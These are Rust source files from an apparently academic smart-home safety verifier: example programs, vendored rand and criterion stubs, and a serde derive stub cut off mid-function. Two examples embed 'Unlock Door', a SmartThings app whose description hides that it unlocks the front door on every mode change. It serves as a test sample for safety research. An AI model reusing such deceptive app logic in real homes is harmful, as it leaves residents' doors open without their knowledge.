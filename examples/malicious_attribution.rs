//! Violation attribution: flagging malicious apps vs misconfigurations.
//!
//! The Output Analyzer (§9) verifies a newly installed app under every
//! possible configuration.  Apps that violate safety properties in (almost)
//! every configuration are flagged as potentially malicious; apps that only
//! violate under some configurations are attributed to misconfiguration and
//! safe configurations are suggested.
//!
//! This example runs the two-phase attribution over the nine ContexIoT-style
//! malicious apps and a few benign market apps (§10.3 reports 9/9 malicious
//! apps attributed with 100 % violation ratios).
//!
//! Run with: `cargo run --release --example malicious_attribution`

use iotsan::attribution::AttributionThresholds;
use iotsan::config::standard_household;
use iotsan::{translate_sources, Pipeline};
use iotsan_apps::{malicious, market};

fn main() {
    let devices = standard_household();
    let pipeline = Pipeline::with_events(3);
    let thresholds = AttributionThresholds::default();

    // The paper evaluates the malicious apps "installed together with other
    // apps"; these two benign apps provide the mode changes and lock commands
    // some of the malicious behaviours react to.
    let installed = translate_sources(&[market::AUTO_MODE_CHANGE, market::LOCK_IT_WHEN_I_LEAVE])
        .expect("installed apps translate");

    println!("== ContexIoT-style malicious apps ==");
    let mut flagged = 0usize;
    let corpus = malicious::malicious_apps();
    for entry in &corpus {
        let apps =
            translate_sources(&[entry.app.source.as_str()]).expect("malicious app translates");
        let report = pipeline.attribute_new_app(&apps[0], &installed, &devices, &thresholds);
        if report.verdict.flags_app() {
            flagged += 1;
        }
        println!(
            "{:<24} expected: {:<55} verdict: {}",
            entry.app.name, entry.expected_violation, report.verdict
        );
    }
    println!("\nflagged {flagged}/{} malicious apps", corpus.len());

    println!("\n== benign market apps (controls) ==");
    for app in market::named_apps().iter().take(6) {
        let apps = translate_sources(&[app.source.as_str()]).expect("market app translates");
        let report = pipeline.attribute_new_app(&apps[0], &installed, &devices, &thresholds);
        println!("{:<24} verdict: {}", app.name, report.verdict);
    }
}
