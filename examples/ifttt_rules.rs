//! Applying IotSan to the IFTTT platform (§11, Table 9).
//!
//! IFTTT applets ("if This then That" rules) are fetched as JSON, mapped onto
//! sensor/actuator device models and translated into single-handler apps; the
//! rest of the pipeline (dependency analysis, model generation, checking) is
//! reused unchanged.
//!
//! Run with: `cargo run --example ifttt_rules`

use iotsan::config::{expert_configure, standard_household};
use iotsan::properties::PropertyId;
use iotsan::Pipeline;
use iotsan_apps::ifttt;

fn main() {
    // 1. Load the applet corpus (the 10 rules of Table 9).
    let rules = ifttt::ifttt_rules();
    println!("loaded {} IFTTT applets", rules.len());
    for rule in &rules {
        println!("  {:<9} {}", rule.id, rule.title);
    }

    // 2. Translate each applet into a single-handler app.
    let apps = ifttt::translate_rules(&rules);

    // 3. Configure them over the standard household and verify.
    let config = expert_configure(&apps, &standard_household());
    let pipeline = Pipeline::with_events(2);
    let result = pipeline.verify(&apps, &config);

    println!("\nrelated groups : {}", result.groups.len());
    println!("violations     : {}", result.violation_count());
    for group in &result.groups {
        for property in group.violated_properties() {
            if let Some(p) = pipeline.properties.get(PropertyId(property)) {
                println!("  violated: {:<66} rules: {}", p.name, group.apps.join(", "));
            }
        }
    }
}
