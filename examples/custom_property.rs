//! Authoring custom safety properties with the open `PropertySpec` API.
//!
//! IotSan's paper treats properties as user-supplied inputs (§8): plain
//! English sentences become verifiable properties.  This example writes two
//! user-defined properties — one with the Rust builder, one loaded from the
//! JSON a non-Rust front end (or a config file) would ship — registers them
//! next to the 45 built-ins, verifies a two-app bundle, and prints the
//! counterexample trace for the custom violation.
//!
//! Run with: `cargo run --example custom_property`

use iotsan::config::{AppConfig, Binding, DeviceConfig, SystemConfig};
use iotsan::properties::{DeviceSelect, Expr, PropertyClass, PropertySet, PropertySpec};
use iotsan::{translate_sources, Pipeline};

const AUTO_MODE_CHANGE: &str = r#"
definition(name: "Auto Mode Change", namespace: "st", author: "demo",
    description: "Change the location mode when people arrive or leave.")
preferences {
    section("Presence sensors") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    if (evt.value == "not present") {
        setLocationMode("Away")
    } else {
        setLocationMode("Home")
    }
}
"#;

const UNLOCK_DOOR: &str = r#"
definition(name: "Unlock Door", namespace: "st", author: "demo",
    description: "Unlock the door when you tap the app.")
preferences {
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() {
    subscribe(app, "touch", appTouch)
    subscribe(location, "mode", changedLocationMode)
}
def appTouch(evt) { lock1.unlock() }
def changedLocationMode(evt) { lock1.unlock() }
"#;

/// The JSON shape a management front end would upload (the same value type
/// the Rust builder produces — `PropertySpec::from_json` is the inverse of
/// `to_json`).
const SPEC_JSON: &str = r#"{
    "id": 47,
    "name": "The mode never changes to Away while the front door is unlocked",
    "category": "Custom",
    "class": {"type": "Custom", "value": "House rules"},
    "modality": {"type": "Never", "value": {"type": "All", "value": [
        {"type": "Atom", "value": {"type": "ModeIs", "value": "Away"}},
        {"type": "Atom", "value": {"type": "AnyAttr", "value": {
            "select": {"label": "frontDoor"},
            "attribute": "lock",
            "value": "unlocked"
        }}}
    ]}}
}"#;

fn main() {
    let apps = translate_sources(&[AUTO_MODE_CHANGE, UNLOCK_DOOR]).expect("apps translate");
    let config = SystemConfig::new()
        .with_device(DeviceConfig::new("alicePresence", "presenceSensor", ""))
        .with_device(DeviceConfig::new("frontDoor", "lock", "main door lock"))
        .with_app(
            AppConfig::new("Auto Mode Change")
                .with("people", Binding::Devices(vec!["alicePresence".into()])),
        )
        .with_app(
            AppConfig::new("Unlock Door").with("lock1", Binding::Devices(vec!["frontDoor".into()])),
        );

    // A property written with the builder: "no unlock command may reach any
    // lock while nobody is home".  Ids 1..=45 belong to the paper corpus.
    let no_unlock_when_empty = PropertySpec::builder(46, "No unlock command while nobody is home")
        .category("Custom")
        .class(PropertyClass::Custom("House rules".into()))
        .never(Expr::and([
            Expr::not(Expr::anyone_home()),
            Expr::command_issued(DeviceSelect::capability("lock"), "unlock"),
        ]));

    // A property loaded from JSON (e.g. shipped inside the system config).
    let no_away_while_unlocked = PropertySpec::from_json(SPEC_JSON).expect("spec parses");

    let properties = PropertySet::all().with(no_unlock_when_empty).with(no_away_while_unlocked);
    println!("property registry: {} specs ({} custom)", properties.len(), properties.len() - 45);

    let pipeline = Pipeline::with_events(2).with_properties(properties);
    let result = pipeline.verify(&apps, &config);

    println!("\nviolations by class:");
    for (class, count) in result.violations_by_class(&pipeline.properties) {
        println!("  {class:<28} {count}");
    }

    // Print the counterexample for the builder-made custom property.
    for group in &result.groups {
        for violation in &group.report.violations {
            if violation.violation.property == 46 {
                println!("\ncounterexample for P46 ({}):", violation.violation.description);
                println!("{}", violation.trace.render(&violation.violation));
            }
        }
    }

    // The custom specs also flow into the generated Promela model.
    let promela = pipeline.emit_promela(&apps, &config);
    for line in promela.lines().filter(|l| l.starts_with("ltl p46") || l.starts_with("ltl p47")) {
        println!("{line}");
    }
}
