//! Quickstart: analyse a two-app smart home for safety violations.
//!
//! This is the paper's running example (§8, Figure 7): `Auto Mode Change`
//! switches the location mode to `Away` when everyone leaves, and
//! `Unlock Door` — whose description claims it only reacts to user input —
//! also unlocks the front door on every mode change.  Together they leave the
//! house unlocked while nobody is home.
//!
//! Run with: `cargo run --example quickstart`

use iotsan::config::{AppConfig, Binding, DeviceConfig, SystemConfig};
use iotsan::{translate_sources, Pipeline};

const AUTO_MODE_CHANGE: &str = r#"
definition(name: "Auto Mode Change", namespace: "st", author: "demo",
    description: "Change the location mode when people arrive or leave.")
preferences {
    section("Presence sensors") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    if (evt.value == "not present") {
        setLocationMode("Away")
    } else {
        setLocationMode("Home")
    }
}
"#;

const UNLOCK_DOOR: &str = r#"
definition(name: "Unlock Door", namespace: "st", author: "demo",
    description: "Unlock the door when you tap the app.")
preferences {
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() {
    subscribe(app, "touch", appTouch)
    subscribe(location, "mode", changedLocationMode)
}
def appTouch(evt) { lock1.unlock() }
def changedLocationMode(evt) { lock1.unlock() }
"#;

fn main() {
    // 1. Translate the Groovy sources (lexer → parser → SmartThings DSL → IR).
    let apps = translate_sources(&[AUTO_MODE_CHANGE, UNLOCK_DOOR]).expect("apps translate");

    // 2. Describe Alice's home: one presence sensor, one smart lock on the
    //    main door, and the app-input bindings (this is what the paper's
    //    Configuration Extractor scrapes from the management app).
    let config = SystemConfig::new()
        .with_device(DeviceConfig::new("alicePresence", "presenceSensor", ""))
        .with_device(DeviceConfig::new("frontDoorLock", "lock", "main door lock"))
        .with_app(
            AppConfig::new("Auto Mode Change")
                .with("people", Binding::Devices(vec!["alicePresence".into()])),
        )
        .with_app(
            AppConfig::new("Unlock Door")
                .with("lock1", Binding::Devices(vec!["frontDoorLock".into()])),
        );

    // 3. Verify: up to 2 external physical events, all 45 safety properties.
    let pipeline = Pipeline::with_events(2);
    let result = pipeline.verify(&apps, &config);

    println!("apps under verification : {}", apps.len());
    println!("related groups          : {}", result.groups.len());
    println!("violations found        : {}", result.violation_count());

    for group in &result.groups {
        for found in &group.report.violations {
            println!("\nviolated property: {}", found.violation);
            println!("apps involved    : {}", group.apps.join(", "));
            println!("counterexample   :");
            print!("{}", found.trace);
        }
    }

    // 4. The generated Promela model can be inspected or handed to Spin.
    let promela = pipeline.emit_promela(&apps, &config);
    println!("\ngenerated Promela model: {} lines", promela.lines().count());
}
