//! Smart-home safety audit: multi-app interactions and device failures.
//!
//! Reproduces the two violation scenarios of Figure 8 on the market corpus:
//!
//! * **Figure 8a** — a four-app chain (Light Follows Me, Light Off When
//!   Close, Good Night, Unlock Door): when the lights go out at night the
//!   mode changes to `Night`, which makes Unlock Door open the main door
//!   while everyone is asleep.
//! * **Figure 8b** — Make It So should lock up and arm the house when motion
//!   stops, but a failed motion sensor silently prevents it; the door stays
//!   unlocked and no notification is sent.
//!
//! Run with: `cargo run --example smart_home_safety`

use iotsan::checker::{Checker, SearchConfig};
use iotsan::config::{expert_configure, standard_household};
use iotsan::devices::{DeviceId, FailurePolicy};
use iotsan::model::{ModelOptions, SequentialModel};
use iotsan::properties::PropertySet;
use iotsan::system::InstalledSystem;
use iotsan::{translate_sources, Pipeline};
use iotsan_apps::samples;

fn main() {
    figure_8a();
    figure_8b();
}

fn figure_8a() {
    println!("== Figure 8a: violation due to bad app interactions ==");
    let group = samples::figure8a_group();
    let sources: Vec<&str> = group.iter().map(|a| a.source.as_str()).collect();
    let apps = translate_sources(&sources).expect("corpus translates");
    let config = expert_configure(&apps, &standard_household());

    let pipeline = Pipeline::with_events(3);
    let result = pipeline.verify(&apps, &config);
    println!("groups: {}, violations: {}", result.groups.len(), result.violation_count());
    for group in &result.groups {
        for found in &group.report.violations {
            if found.violation.description.contains("main door")
                || found.violation.description.contains("sleeping")
            {
                println!("\nviolated : {}", found.violation);
                println!("apps     : {}", group.apps.join(", "));
                println!("trace    :\n{}", found.trace);
            }
        }
    }
}

fn figure_8b() {
    println!("\n== Figure 8b: violation due to a failed motion sensor ==");
    let group = samples::figure8b_group();
    let sources: Vec<&str> = group.iter().map(|a| a.source.as_str()).collect();
    let apps = translate_sources(&sources).expect("corpus translates");
    let pipeline = Pipeline::with_events(3);
    let config = pipeline.restrict_config(&apps, &expert_configure(&apps, &standard_household()));

    // Only the motion sensor may fail — the targeted scenario of the paper.
    let failing: Vec<DeviceId> = config
        .devices
        .iter()
        .enumerate()
        .filter(|(_, d)| d.capability == "motionSensor")
        .map(|(i, _)| DeviceId(i as u32))
        .collect();
    let mut options = ModelOptions::with_events(3);
    options.failure_policy = FailurePolicy::OnlyDevices(failing);

    let system = InstalledSystem::new(apps, config);
    let model = SequentialModel::new(system, PropertySet::all(), options);
    let report = Checker::new(SearchConfig::with_depth(3)).verify(&model);

    println!("states explored: {}", report.stats.states_stored);
    for found in &report.violations {
        println!("\nviolated : {}", found.violation);
        println!("trace    :\n{}", found.trace);
    }
    if report.violations.is_empty() {
        println!("no violations found");
    }
}
