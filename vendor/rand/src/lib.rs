//! Vendored minimal stand-in for the `rand` crate.
//!
//! IotSan-rs only needs seeded, reproducible pseudo-randomness for the
//! synthetic configuration portal (`StdRng::seed_from_u64`, `gen_range`,
//! `gen_bool`, slice `choose`/`shuffle`), so this stub ships a SplitMix64
//! generator behind the same paths: `rand::rngs::StdRng`, `rand::seq::
//! SliceRandom`, `rand::{Rng, SeedableRng}`.  Distribution quality is
//! adequate for test-corpus generation, not for statistics or cryptography.

/// A source of random 64-bit words.
pub trait RngCore {
    /// The next 64 random bits.
    fn next_u64(&mut self) -> u64;

    /// The next 32 random bits.
    fn next_u32(&mut self) -> u32 {
        (self.next_u64() >> 32) as u32
    }
}

/// A generator constructible from a 64-bit seed.
pub trait SeedableRng: Sized {
    /// Creates a generator from `seed`; equal seeds give equal streams.
    fn seed_from_u64(seed: u64) -> Self;
}

/// Convenience sampling methods, available on every [`RngCore`].
pub trait Rng: RngCore {
    /// A uniform sample from `range` (half-open).
    fn gen_range<T: SampleUniform>(&mut self, range: std::ops::Range<T>) -> T
    where
        Self: Sized,
    {
        T::sample(self, range)
    }

    /// `true` with probability `p`.
    fn gen_bool(&mut self, p: f64) -> bool
    where
        Self: Sized,
    {
        // 53 high bits give a uniform float in [0, 1).
        let unit = (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64;
        unit < p
    }
}

impl<R: RngCore + ?Sized> Rng for R {}

/// Types that can be sampled uniformly from a half-open range.
pub trait SampleUniform: Copy {
    /// Samples uniformly from `range`.
    fn sample<R: RngCore>(rng: &mut R, range: std::ops::Range<Self>) -> Self;
}

macro_rules! sample_uniform_int {
    ($($t:ty),+) => {
        $(
            impl SampleUniform for $t {
                fn sample<R: RngCore>(rng: &mut R, range: std::ops::Range<Self>) -> Self {
                    assert!(range.start < range.end, "gen_range called with empty range");
                    let span = (range.end as i128 - range.start as i128) as u128;
                    let offset = (rng.next_u64() as u128) % span;
                    (range.start as i128 + offset as i128) as $t
                }
            }
        )+
    };
}

sample_uniform_int!(i8, i16, i32, i64, u8, u16, u32, u64, usize, isize);

impl SampleUniform for f64 {
    fn sample<R: RngCore>(rng: &mut R, range: std::ops::Range<Self>) -> Self {
        let unit = (rng.next_u64() >> 11) as f64 / (1u64 << 53) as f64;
        range.start + unit * (range.end - range.start)
    }
}

/// Deterministic standard generators.
pub mod rngs {
    use super::{RngCore, SeedableRng};

    /// The stub's standard generator: SplitMix64 (Steele et al.), chosen for
    /// its tiny state and good equidistribution at this corpus scale.
    #[derive(Debug, Clone)]
    pub struct StdRng {
        state: u64,
    }

    impl RngCore for StdRng {
        fn next_u64(&mut self) -> u64 {
            self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = self.state;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        }
    }

    impl SeedableRng for StdRng {
        fn seed_from_u64(seed: u64) -> Self {
            StdRng { state: seed }
        }
    }
}

/// Slice sampling helpers.
pub mod seq {
    use super::RngCore;

    /// Random selection and shuffling over slices.
    pub trait SliceRandom {
        /// The element type.
        type Item;

        /// A uniformly chosen element, or `None` when empty.
        fn choose<R: RngCore + ?Sized>(&self, rng: &mut R) -> Option<&Self::Item>;

        /// Fisher–Yates shuffle in place.
        fn shuffle<R: RngCore + ?Sized>(&mut self, rng: &mut R);
    }

    impl<T> SliceRandom for [T] {
        type Item = T;

        fn choose<R: RngCore + ?Sized>(&self, rng: &mut R) -> Option<&T> {
            if self.is_empty() {
                None
            } else {
                self.get(rng.next_u64() as usize % self.len())
            }
        }

        fn shuffle<R: RngCore + ?Sized>(&mut self, rng: &mut R) {
            for i in (1..self.len()).rev() {
                let j = rng.next_u64() as usize % (i + 1);
                self.swap(i, j);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::rngs::StdRng;
    use super::seq::SliceRandom;
    use super::{Rng, SeedableRng};

    #[test]
    fn seeded_streams_are_deterministic() {
        let mut a = StdRng::seed_from_u64(7);
        let mut b = StdRng::seed_from_u64(7);
        for _ in 0..32 {
            assert_eq!(a.gen_range(0..1000), b.gen_range(0..1000));
        }
    }

    #[test]
    fn gen_range_stays_in_bounds() {
        let mut rng = StdRng::seed_from_u64(42);
        for _ in 0..1000 {
            let v = rng.gen_range(1..60);
            assert!((1..60).contains(&v));
            let n = rng.gen_range(-5i64..5);
            assert!((-5..5).contains(&n));
        }
    }

    #[test]
    fn choose_and_shuffle_cover_the_slice() {
        let mut rng = StdRng::seed_from_u64(3);
        let items = ["a", "b", "c"];
        assert!(items.choose(&mut rng).is_some());
        assert!(Vec::<u8>::new().choose(&mut rng).is_none());
        let mut deck: Vec<u32> = (0..16).collect();
        deck.shuffle(&mut rng);
        let mut sorted = deck.clone();
        sorted.sort_unstable();
        assert_eq!(sorted, (0..16).collect::<Vec<_>>());
    }

    #[test]
    fn gen_bool_tracks_probability() {
        let mut rng = StdRng::seed_from_u64(9);
        let hits = (0..10_000).filter(|_| rng.gen_bool(0.3)).count();
        assert!((2500..3500).contains(&hits), "hits = {hits}");
    }
}
