//! Vendored minimal stand-in for the `criterion` crate.
//!
//! Supports the benchmark surface this workspace uses — `criterion_group!` /
//! `criterion_main!`, `Criterion::benchmark_group`, `BenchmarkGroup::
//! {sample_size, bench_with_input, finish}`, `BenchmarkId`, `Bencher::iter`
//! and [`black_box`] — and reports plain mean wall-clock times instead of
//! Criterion's statistical analysis.  `cargo bench` therefore still produces
//! comparable per-input timings; swap in real Criterion for confidence
//! intervals and HTML reports.

use std::fmt;
use std::time::{Duration, Instant};

pub use std::hint::black_box;

/// The benchmark driver.
pub struct Criterion {
    default_sample_size: usize,
}

impl Default for Criterion {
    fn default() -> Self {
        Criterion { default_sample_size: 10 }
    }
}

impl Criterion {
    /// Starts a named group of related benchmarks.
    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        let name = name.into();
        println!("benchmarking group `{name}`");
        let sample_size = self.default_sample_size;
        BenchmarkGroup { _criterion: self, name, sample_size }
    }

    /// Benchmarks a single function.
    pub fn bench_function<F: FnMut(&mut Bencher)>(&mut self, name: &str, mut f: F) -> &mut Self {
        let mut bencher = Bencher { sample_size: self.default_sample_size, mean: Duration::ZERO };
        f(&mut bencher);
        println!("{name}: mean {:?}", bencher.mean);
        self
    }
}

/// A named set of benchmarks sharing configuration.
pub struct BenchmarkGroup<'a> {
    _criterion: &'a mut Criterion,
    name: String,
    sample_size: usize,
}

impl BenchmarkGroup<'_> {
    /// Sets how many samples each benchmark takes.
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = n.max(1);
        self
    }

    /// Benchmarks `f` against one `input`, labelled by `id`.
    pub fn bench_with_input<I: ?Sized, F>(
        &mut self,
        id: BenchmarkId,
        input: &I,
        mut f: F,
    ) -> &mut Self
    where
        F: FnMut(&mut Bencher, &I),
    {
        let mut bencher = Bencher { sample_size: self.sample_size, mean: Duration::ZERO };
        f(&mut bencher, input);
        println!("{}/{}: mean {:?}", self.name, id, bencher.mean);
        self
    }

    /// Ends the group.
    pub fn finish(self) {}
}

/// Identifies one benchmark within a group.
#[derive(Debug, Clone)]
pub struct BenchmarkId {
    label: String,
}

impl BenchmarkId {
    /// `function_name/parameter`.
    pub fn new(function_name: impl Into<String>, parameter: impl fmt::Display) -> Self {
        BenchmarkId { label: format!("{}/{}", function_name.into(), parameter) }
    }

    /// Just the parameter.
    pub fn from_parameter(parameter: impl fmt::Display) -> Self {
        BenchmarkId { label: parameter.to_string() }
    }
}

impl fmt::Display for BenchmarkId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.label)
    }
}

/// Runs the measured closure and records timings.
pub struct Bencher {
    sample_size: usize,
    mean: Duration,
}

impl Bencher {
    /// Times `routine` over the configured number of samples.
    pub fn iter<O, R: FnMut() -> O>(&mut self, mut routine: R) {
        // One warm-up call, then timed samples.
        black_box(routine());
        let start = Instant::now();
        for _ in 0..self.sample_size {
            black_box(routine());
        }
        self.mean = start.elapsed() / self.sample_size as u32;
    }
}

/// Bundles benchmark functions into a callable group.
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        pub fn $name() {
            let mut criterion = $crate::Criterion::default();
            $( $target(&mut criterion); )+
        }
    };
}

/// Emits `main` running the given groups.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}
