//! Vendored minimal `#[derive(Serialize, Deserialize)]` implementation.
//!
//! The build environment has no crates.io access, so `syn`/`quote` are not
//! available; the derive input is parsed directly from the `proc_macro` token
//! stream.  Supported shapes — exactly what this workspace uses:
//!
//! * non-generic structs with named fields, honouring `#[serde(default)]` and
//!   `#[serde(default = "path")]` on fields;
//! * non-generic enums with unit or 1-tuple variants, externally tagged by
//!   default or adjacently tagged via `#[serde(tag = "...", content = "...")]`.
//!
//! Anything else produces a compile error pointing here.

use proc_macro::{Delimiter, TokenStream, TokenTree};

/// How a missing field is filled in during deserialization.
enum FieldDefault {
    /// Missing field is an error.
    Required,
    /// `#[serde(default)]` — use `Default::default()`.
    DefaultTrait,
    /// `#[serde(default = "path")]` — call `path()`.
    Path(String),
}

struct Field {
    name: String,
    default: FieldDefault,
}

struct Variant {
    name: String,
    has_payload: bool,
}

enum Shape {
    Struct(Vec<Field>),
    Enum(Vec<Variant>),
}

struct Input {
    name: String,
    shape: Shape,
    /// `#[serde(tag = "...")]` on the container.
    tag: Option<String>,
    /// `#[serde(content = "...")]` on the container.
    content: Option<String>,
}

#[proc_macro_derive(Serialize, attributes(serde))]
pub fn derive_serialize(input: TokenStream) -> TokenStream {
    let parsed = match parse_input(input) {
        Ok(p) => p,
        Err(msg) => return compile_error(&msg),
    };
    gen_serialize(&parsed).parse().expect("generated Serialize impl parses")
}

#[proc_macro_derive(Deserialize, attributes(serde))]
pub fn derive_deserialize(input: TokenStream) -> TokenStream {
    let parsed = match parse_input(input) {
        Ok(p) => p,
        Err(msg) => return compile_error(&msg),
    };
    gen_deserialize(&parsed).parse().expect("generated Deserialize impl parses")
}

fn compile_error(msg: &str) -> TokenStream {
    format!("compile_error!({:?});", msg).parse().unwrap()
}

// ---------------------------------------------------------------------------
// Parsing
// ---------------------------------------------------------------------------

/// Extracts `(tag, content, default)` information from one `#[serde(...)]`
/// attribute body.
fn parse_serde_attr(
    group: &proc_macro::Group,
    input_meta: &mut (Option<String>, Option<String>),
    default: &mut Option<FieldDefault>,
) {
    let tokens: Vec<TokenTree> = group.stream().into_iter().collect();
    let mut i = 0;
    while i < tokens.len() {
        match &tokens[i] {
            TokenTree::Ident(ident) => {
                let key = ident.to_string();
                let value = if i + 2 < tokens.len() && is_punct(&tokens[i + 1], '=') {
                    let lit = literal_string(&tokens[i + 2]);
                    i += 3;
                    lit
                } else {
                    i += 1;
                    None
                };
                match key.as_str() {
                    "tag" => input_meta.0 = value,
                    "content" => input_meta.1 = value,
                    "default" => {
                        *default = Some(match value {
                            Some(path) => FieldDefault::Path(path),
                            None => FieldDefault::DefaultTrait,
                        })
                    }
                    _ => {}
                }
            }
            _ => i += 1,
        }
    }
}

fn is_punct(tree: &TokenTree, ch: char) -> bool {
    matches!(tree, TokenTree::Punct(p) if p.as_char() == ch)
}

fn is_ident(tree: &TokenTree, name: &str) -> bool {
    matches!(tree, TokenTree::Ident(i) if i.to_string() == name)
}

/// Unquotes a string literal token (`"foo"` → `foo`).
fn literal_string(tree: &TokenTree) -> Option<String> {
    if let TokenTree::Literal(lit) = tree {
        let s = lit.to_string();
        if s.len() >= 2 && s.starts_with('"') && s.ends_with('"') {
            return Some(s[1..s.len() - 1].to_string());
        }
    }
    None
}

fn parse_input(input: TokenStream) -> Result<Input, String> {
    let tokens: Vec<TokenTree> = input.into_iter().collect();
    let mut container_meta: (Option<String>, Option<String>) = (None, None);
    let mut i = 0;

    // Container attributes and visibility.
    while i < tokens.len() {
        match &tokens[i] {
            TokenTree::Punct(p) if p.as_char() == '#' => {
                if let Some(TokenTree::Group(g)) = tokens.get(i + 1) {
                    if let Some(TokenTree::Ident(name)) = g.stream().into_iter().next() {
                        if name.to_string() == "serde" {
                            if let Some(TokenTree::Group(inner)) = g.stream().into_iter().nth(1) {
                                let mut ignored = None;
                                parse_serde_attr(&inner, &mut container_meta, &mut ignored);
                            }
                        }
                    }
                }
                i += 2;
            }
            TokenTree::Ident(ident) if ident.to_string() == "pub" => {
                i += 1;
                if let Some(TokenTree::Group(g)) = tokens.get(i) {
                    if g.delimiter() == Delimiter::Parenthesis {
                        i += 1; // pub(crate) and friends
                    }
                }
            }
            TokenTree::Ident(ident)
                if ident.to_string() == "struct" || ident.to_string() == "enum" =>
            {
                break
            }
            _ => return Err(format!("serde derive stub: unexpected token `{}`", tokens[i])),
        }
    }

    let is_struct = is_ident(&tokens[i], "struct");
    i += 1;
    let name = match tokens.get(i) {
        Some(TokenTree::Ident(ident)) => ident.to_string(),
        other => return Err(format!("serde derive stub: expected type name, got {:?}", other)),
    };
    i += 1;
    if matches!(tokens.get(i), Some(t) if is_punct(t, '<')) {
        return Err(format!("serde derive stub: generic type `{}` is not supported", name));
    }
    let body = match tokens.get(i) {
        Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => g.stream(),
        other => {
            return Err(format!(
                "serde derive stub: `{}` must have a braced body (got {:?})",
                name, other
            ))
        }
    };

    let shape = if is_struct {
        Shape::Struct(parse_fields(body)?)
    } else {
        Shape::Enum(parse_variants(body)?)
    };
    Ok(Input { name, shape, tag: container_meta.0, content: container_meta.1 })
}

/// Splits a brace body into chunks at commas that sit outside any `<...>`.
fn split_top_level(stream: TokenStream) -> Vec<Vec<TokenTree>> {
    let mut chunks = vec![Vec::new()];
    let mut angle_depth = 0i32;
    for tree in stream {
        match &tree {
            TokenTree::Punct(p) if p.as_char() == '<' => angle_depth += 1,
            TokenTree::Punct(p) if p.as_char() == '>' => angle_depth -= 1,
            TokenTree::Punct(p) if p.as_char() == ',' && angle_depth == 0 => {
                chunks.push(Vec::new());
                continue;
            }
            _ => {}
        }
        chunks.last_mut().unwrap().push(tree);
    }
    chunks.retain(|c| !c.is_empty());
    chunks
}

/// Skips leading attributes in a field/variant chunk, extracting any
/// `#[serde(default...)]` along the way.
fn skip_attrs(chunk: &[TokenTree], default: &mut Option<FieldDefault>) -> usize {
    let mut i = 0;
    while i + 1 < chunk.len() && is_punct(&chunk[i], '#') {
        if let TokenTree::Group(g) = &chunk[i + 1] {
            let inner: Vec<TokenTree> = g.stream().into_iter().collect();
            if matches!(inner.first(), Some(t) if is_ident(t, "serde")) {
                if let Some(TokenTree::Group(body)) = inner.get(1) {
                    let mut ignored = (None, None);
                    parse_serde_attr(body, &mut ignored, default);
                }
            }
        }
        i += 2;
    }
    i
}

fn parse_fields(stream: TokenStream) -> Result<Vec<Field>, String> {
    let mut fields = Vec::new();
    for chunk in split_top_level(stream) {
        let mut default = None;
        let mut i = skip_attrs(&chunk, &mut default);
        if matches!(chunk.get(i), Some(t) if is_ident(t, "pub")) {
            i += 1;
            if let Some(TokenTree::Group(g)) = chunk.get(i) {
                if g.delimiter() == Delimiter::Parenthesis {
                    i += 1;
                }
            }
        }
        let name = match chunk.get(i) {
            Some(TokenTree::Ident(ident)) => ident.to_string(),
            other => {
                return Err(format!("serde derive stub: expected field name, got {:?}", other))
            }
        };
        if !matches!(chunk.get(i + 1), Some(t) if is_punct(t, ':')) {
            return Err(format!("serde derive stub: field `{}` must be a named field", name));
        }
        fields.push(Field { name, default: default.unwrap_or(FieldDefault::Required) });
    }
    Ok(fields)
}

fn parse_variants(stream: TokenStream) -> Result<Vec<Variant>, String> {
    let mut variants = Vec::new();
    for chunk in split_top_level(stream) {
        let mut ignored = None;
        let i = skip_attrs(&chunk, &mut ignored);
        let name = match chunk.get(i) {
            Some(TokenTree::Ident(ident)) => ident.to_string(),
            other => {
                return Err(format!("serde derive stub: expected variant name, got {:?}", other))
            }
        };
        let has_payload = match chunk.get(i + 1) {
            None => false,
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis => {
                if split_top_level(g.stream()).len() != 1 {
                    return Err(format!(
                        "serde derive stub: variant `{}` must carry exactly one field",
                        name
                    ));
                }
                true
            }
            Some(other) => {
                return Err(format!(
                    "serde derive stub: unsupported variant shape at `{}` ({})",
                    name, other
                ))
            }
        };
        variants.push(Variant { name, has_payload });
    }
    Ok(variants)
}

// ---------------------------------------------------------------------------
// Code generation
// ---------------------------------------------------------------------------

fn gen_serialize(input: &Input) -> String {
    let name = &input.name;
    let mut out = String::new();
    out.push_str(&format!("impl ::serde::Serialize for {name} {{\n"));
    out.push_str("    fn to_value(&self) -> ::serde::Value {\n");
    match &input.shape {
        Shape::Struct(fields) => {
            out.push_str(
                "        let mut __fields: ::std::vec::Vec<(::std::string::String, ::serde::Value)> = ::std::vec::Vec::new();\n",
            );
            for f in fields {
                out.push_str(&format!(
                    "        __fields.push((\"{0}\".to_string(), ::serde::Serialize::to_value(&self.{0})));\n",
                    f.name
                ));
            }
            out.push_str("        ::serde::Value::Object(__fields)\n");
        }
        Shape::Enum(variants) => {
            let tag = input.tag.as_deref().unwrap_or("type");
            let content = input.content.as_deref().unwrap_or("value");
            out.push_str("        match self {\n");
            for v in variants {
                if v.has_payload {
                    out.push_str(&format!(
                        "            {name}::{0}(__payload) => ::serde::Value::Object(vec![\n                (\"{tag}\".to_string(), ::serde::Value::String(\"{0}\".to_string())),\n                (\"{content}\".to_string(), ::serde::Serialize::to_value(__payload)),\n            ]),\n",
                        v.name
                    ));
